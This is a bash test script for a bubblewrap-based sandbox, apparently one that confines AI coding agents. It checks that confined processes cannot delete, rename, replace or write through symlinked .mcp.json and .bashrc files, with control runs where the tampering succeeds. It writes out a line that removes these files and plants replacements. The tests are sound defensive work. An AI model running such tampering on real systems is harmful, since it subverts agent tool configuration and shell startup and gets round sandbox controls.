# Over 80 lines: one attack after another, each with its control, a few lines
# that end in tap_finish, in the order of their TAP numbers.
link_attacks() {
    local name attempt script
    # What the issue reported: the links removed and regular files written in their place.
    # shellcheck disable=SC2016  # $1 is the inner shell's
    script='cd "$1" && rm -f .mcp.json .bashrc; echo planted >.mcp.json; echo planted >.bashrc; exit 0'
    fresh_case
    setup_shared_links
    sbx_run "${confined[@]}" -- sh -c "$script" sh "$proj"
    want_status 0
    want_err "rm: cannot remove '.mcp.json'"
    link_confined "rm of a symlinked .mcp.json and .bashrc at the root, then writing files in their place, changes nothing"

    fresh_case
    setup_shared_links
    link_plan sh -c "$script" sh "$proj"
    input=$case_dir/plan.json capture timeout 20 "$sbx_linux" --bubblewrap-mounts --plan-fd 0
    want_status 0
    want_err "$proj/.mcp.json: $link_unmade_warning"
    want_err "$proj/.bashrc: $link_unmade_warning"
    for name in .mcp.json .bashrc; do
        [[ ! -L $proj/$name && $(cat "$proj/$name" 2>/dev/null || true) == planted ]] ||
            fail_because "$name is not the regular file the command wrote"
    done
    tap_finish "control: with --bubblewrap-mounts (no mount on the names) the same replaces both links with files, and sbx-linux warns naming each"

    # Each way of changing a name, refused with EBUSY, for both links.
    for name in .mcp.json .bashrc; do
        for attempt in unlink rename replace; do
            fresh_case
            setup_shared_links
            local -a args
            case $attempt in
                unlink) args=(unlink "$proj/$name") ;;
                rename) args=(rename "$proj/$name" "$proj/moved") ;;
                replace) args=(replace "$proj/$name" planted) ;;
            esac
            sbx_run "${confined[@]}" -- "$attack" "${args[@]}"
            if ! grep -qF -- "$link_unmade_warning" <<<"$err"; then
                want_refused EBUSY
                want_no_file "$proj/moved"
            fi
            link_confined "$attempt of a symlinked $name at the root is refused with EBUSY; the link stays as it was"

            fresh_case
            setup_shared_links
            case $attempt in
                unlink) args=(unlink "$proj/$name") ;;
                rename) args=(rename "$proj/$name" "$proj/moved") ;;
                replace) args=(replace "$proj/$name" planted) ;;
            esac
            link_plan "$attack" "${args[@]}"
            input=$case_dir/plan.json capture timeout 20 "$sbx_linux" --bubblewrap-mounts --plan-fd 0
            want_succeeded
            want_err "$proj/$name: $link_unmade_warning"
            [[ ! -L $proj/$name ]] || fail_because "$name is still a link"
            tap_finish "control: with --bubblewrap-mounts the $attempt of $name works"
        done
        # Through the link, its target is as read-only as the name.
        fresh_case
        setup_shared_links
        sbx_run "${confined[@]}" -- "$attack" write "$proj/$name" planted
        want_refused EROFS
        link_confined "writing through a symlinked $name at the root is refused with EROFS; its target stays as it was"

        fresh_case
        setup_shared_links
        sbx_run --settings "$conf/fs-disabled.json" -- "$attack" write "$proj/$name" planted
        want_succeeded
        [[ -L $proj/$name && $(<"$proj/$name") == planted ]] || fail_because "the target of $name does not hold the text"
        tap_finish "control: writing through $name works with filesystem.disabled"
    done

    # sbx explain says so, of the name and of its target.
    fresh_case
    setup_shared_links
    ln -s "$case_dir/shared/mcp.json" "$proj/notes.json"  # a link of no protected name
    give "$case_dir"
    capture "$sbx" explain --root "$proj" "${managed[@]}" .mcp.json
    want_status 0
    want_line "^  write: denied  protected: protected path $case_dir/shared/mcp.json "
    want_line "^  link: denied  protected: protected path $proj/\.mcp\.json .*; the symbolic link itself cannot be removed, renamed or replaced$"
    tap_finish "sbx explain .mcp.json: its target and the link itself are protected"

    capture "$sbx" explain --root "$proj" "${managed[@]}" notes.json
    want_status 0
    want_line "^  link: allowed  inside the root $proj; the symbolic link itself can be removed, renamed or replaced$"
    tap_finish "control: sbx explain of a link with no protected name says the link can be removed"
}

# --- the run ------------------------------------------------------------------------------

tap_users

for user in "${users[@]}"; do
    who=$user
    TAP_PREFIX="as $who: "
    if ! id -u "$user" >/dev/null 2>&1; then
        problems=("SBX_TEST_USER names no user")
        tap_finish "the test user $user exists"
        continue
    fi
    as_user "$user"
    fresh_case
    if ! command -v bwrap >/dev/null; then
        skip "every attack" "bubblewrap (bwrap) is not installed"
        continue
    fi
    capture timeout 20 "${bare_bwrap[@]}" true
    if [[ $rc != 0 ]]; then
        skip "every attack" "bubblewrap cannot make a sandbox as $user here: $(head -n1 <<<"$err")"
        continue
    fi
    sbx_run "${confined[@]}" -- true
    want_status 0
    tap_finish "sbx run -- true runs in the sandbox and exits 0"

    fs_attacks
    link_attacks
    syscall_attacks
    socket_attacks
    unix_socket_paths
    ssh_agent_case
    kernel_attacks
    pid1_attacks
    stage_attacks
    fd_attacks
    key_attacks
    family_attacks
    surface_attacks
    env_attacks
    home_root_attacks
    git_later_attacks
    agent_file_attacks
    nested_repo_attacks
    git_audit_attacks
    process_attacks
    leftover_attacks
done

tap_end
